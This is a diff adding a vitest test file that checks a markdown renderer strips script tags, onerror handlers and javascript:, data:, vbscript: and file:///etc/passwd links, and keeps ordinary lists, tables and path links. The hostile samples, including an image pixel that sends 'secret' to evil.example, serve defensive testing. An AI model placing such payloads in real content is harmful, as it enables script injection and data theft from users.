@@ -1,0 +1,31 @@
+import { expect, it } from 'vitest';
+import { renderMarkdown, renderOwn } from './renderMarkdown.ts';
+
+it('lets no HTML, no image and no address through that could run or load something', () => {
+  const hostile = [
+    '<script>steal()</script><img src=x onerror=steal()>',
+    '![pixel](https://evil.example/?q=secret)',
+    '[a](javascript:steal()) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc/passwd)',
+    '<https://ok.example> [e](JAVASCRIPT:steal())',
+  ].join('\n\n');
+  const html = renderMarkdown(hostile);
+  expect(html).not.toMatch(/<(?:script|img|iframe)/iu);
+  expect([...html.matchAll(/href="(?<address>[^"]*)"/gu)].map(({ groups }) => groups?.['address'])).toEqual([
+    // An image is a link that somebody has to click.
+    'https://evil.example/?q=secret',
+    'https://ok.example',
+  ]);
+});
+
+it('keeps code, lists and tables, and paths as links', () => {
+  expect(renderMarkdown('- `a`\n- **b**')).toContain('<li><strong>b</strong></li>');
+  expect(renderMarkdown('|a|b|\n|-|-|\n|1|2|')).toContain('<td>2</td>');
+  expect(renderMarkdown('[app](src/app.ts#L3)')).toContain('href="src/app.ts#L3"');
+});
+
+it('draws no icons of VS Code in our own lines, but keeps what is escaped', () => {
+  expect(renderOwn('$(history) [Show](command:pincer.runs.showLast)')).toBe(
+    '<p><a href="command:pincer.runs.showLast">Show</a></p>\n',
+  );
+  expect(renderOwn('echo \\$(history)')).toContain('$(history)');
+});
